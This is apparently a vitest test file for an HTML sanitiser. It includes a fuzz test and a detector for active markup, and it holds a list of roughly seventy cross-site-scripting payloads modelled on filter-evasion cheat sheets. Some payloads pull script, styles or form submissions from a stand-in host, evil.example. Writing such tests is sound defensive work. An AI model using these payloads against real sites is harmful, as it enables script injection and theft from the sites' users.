import * as fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { expect, test } from 'vitest';
import { sanitise, toPlainText } from '../../../src/publish/html/sanitise.ts';

const base = 'https://a.example.com/b/c';

function check(html: string, expected: string): void {
  expect(sanitise(html, base)).toBe(expected);
}

/** Returns everything in `html` that would run, frame, style, submit or leave the page in a
 *  browser. */
function findActive(html: string): string[] {
  const found: string[] = [];
  const tags =
    'script style iframe frame frameset object embed applet form input button textarea select svg math meta base link template noscript portal dialog title plaintext xmp';
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (tags.split(' ').includes(name)) found.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^(on|style$|srcdoc|formaction|action$|xlink|ping|background|data|id$|name$|class$)/i.test(key)) found.push(key);
        // URL.parse drops tabs, line ends and leading control characters, as browsers do (WHATWG
        // URL §4.4).
        if (
          ['href', 'src', 'poster', 'cite'].includes(key) &&
          !['http:', 'https:', 'mailto:'].includes(URL.parse(value, base)?.protocol ?? 'https:')
        )
          found.push(`${key}=${value}`);
      }
    },
  });
  parser.end(html);
  return found;
}

/** Modelled on the known cheat sheets (OWASP filter evasion, html5sec, DOMPurify's tests), in our
 *  own words. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT >',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" OnLoad=alert(2)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<p onclick=alert(1) onmouseover\n=\nalert(2)>x</p>',
  '<body onload=alert(1)>x</body>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0a;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://a.example.com/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="https://x" ping="https://evil.example/">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x">',
  '<video poster="javascript:alert(1)"><source src="javascript:alert(1)" onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;top:0">x</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example/"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(1)"><param name=a></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p title="--><script>alert(1)</script>">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p id="location" name="cookie" class="newsfold-also">x</p>',
  '</p></div></article></main><script>alert(1)</script>',
  '<a href=x><a href="javascript:alert(1)">x</a></a>',
  '<table><td><script>alert(1)</script>',
  '<b><i></b><img src=x onerror=alert(1)></i>',
];

test.each(hostile)('nothing active is left of %j', (html) => {
  for (const from of [base, null, 'javascript:x', 'file:///a']) expect(findActive(sanitise(html, from))).toEqual([]);
});

test('the check finds active content in the hostile list itself', () => {
  expect(hostile.filter((html) => findActive(html).length === 0).length).toBeLessThan(12);
});

test.each([
  ['<a href="d?e=1&amp;f#g">x</a>', '<a href="https://a.example.com/b/d?e=1&amp;f#g">x</a>'],
  ['<a href="//c.example.com/">x</a>', '<a href="https://c.example.com/">x</a>'],
  ['<a href="mailto:a@example.com">x</a>', '<a href="mailto:a@example.com">x</a>'],
  ['<a href="http://[">x</a>', '<a href="http://[">x</a>'],
  ['<img src="/i.png" alt="a &quot;b&quot;" width="3">', '<img src="https://a.example.com/i.png" alt="a &quot;b&quot;" width="3" />'],
  [
    '<video poster="p.png" src="v.mp4" autoplay></video>',
    '<video poster="https://a.example.com/b/p.png" src="https://a.example.com/b/v.mp4"></video>',
  ],
  ['<a href="https://me:pw@c.example.com/d@e">x</a>', '<a href="https://c.example.com/d@e">x</a>'],
  ['<a href="//bank.example@c.example.com/">x</a>', '<a href="https://c.example.com/">x</a>'],
  ['<img src=" HTTP:\\\\u:p@c.example.com\\i.png">', '<img src="http://c.example.com/i.png" />'],
  ['<a href="https://c.example.com/@name">x</a>', '<a href="https://c.example.com/@name">x</a>'],
  ['<p dir="rtl" lang="ar">x</p>', '<p dir="rtl" lang="ar">x</p>'],
  ['a &lt; b &amp; c', 'a &lt; b &amp; c'],
  ['<p>one<p>two<b>three', '<p>one</p><p>two<b>three</b></p>'],
  ['</div>x<custom-tag>y</custom-tag>', 'xy'],
])('%j becomes %j', check);

test('relative links without a known base are dropped, and their words stay', () => {
  expect(sanitise('<a href="/a">x</a><a href="//b.example/">y</a><img src="c.png" alt="z">', null)).toBe('<a>x</a><a>y</a><span>z</span>');
});

test.each([
  ['<p>a<img alt="a &lt;cat&gt;" title="t">b</p>c', '<p>a<span>a &lt;cat&gt;</span>b</p>c'],
  ['<p>a<img alt=" ">b<img>c</p>d', '<p>abc</p>d'],
  ['a<img src="">b<img src="data:image/png;base64,AA==" alt="x">c', 'ab<span>x</span>c'],
  ['<a href="https://x.example/"><img src="cat.png" alt="x"></a>y', '<a href="https://x.example/"><span>x</span></a>y'],
  ['<img src="data:image/gif;base64,R0" data-src="https://x.example/a.jpg" alt="x">', '<img src="https://x.example/a.jpg" alt="x" />'],
  ['<img srcset="https://x.example/a.jpg 1x, https://x.example/b.jpg 2x" alt="x">', '<img alt="x" src="https://x.example/a.jpg" />'],
  ['<img data-src="a.jpg" alt="x">', '<span>x</span>'],
  ['<picture><source srcset="https://x.example/a.webp"><img alt="x"></picture>', '<picture><span>x</span></picture>'],
])('pictures without a web address become their alternative text: %j', (html, expected) => expect(sanitise(html, null)).toBe(expected));

test('100,000 nested elements are read, and deep ones lose only their tags', () => {
  const html = sanitise(`${'<div>'.repeat(100_000)}x`, base);
  expect(html).toContain('x');
  expect(html.match(/<div>/g)?.length).toBeLessThanOrEqual(100);
});

test('every string gives inactive markup that sanitising again does not change', () => {
  const pieces = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '=',
    '/',
    ' ',
    '&',
    ';',
    '&#',
    'a',
    'img',
    'svg',
    'script',
    'style',
    'href',
    'src',
    'onerror',
    'javascript:',
    '<!--',
    '-->',
    '<a href=',
    '<math>',
    '</',
    '\u0000',
    '\n',
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.array(pieces).map((parts) => parts.join('')),
      ),
      (html) => {
        const clean = sanitise(html, base);
        expect(findActive(clean)).toEqual([]);
        expect(sanitise(clean, base)).toBe(clean);
      },
    ),
  );
});

test.each([
  ['<p>a</p> <p>b &amp; c &lt; d</p>', 'a b & c < d'],
  ['a<script>x</script>b', 'ab'],
  ['&amp;lt;', '&lt;'],
  ['a&nbsp;b\n c', 'a b c'],
])('%j becomes the plain text %j', (html, expected) => expect(toPlainText(html)).toBe(expected));
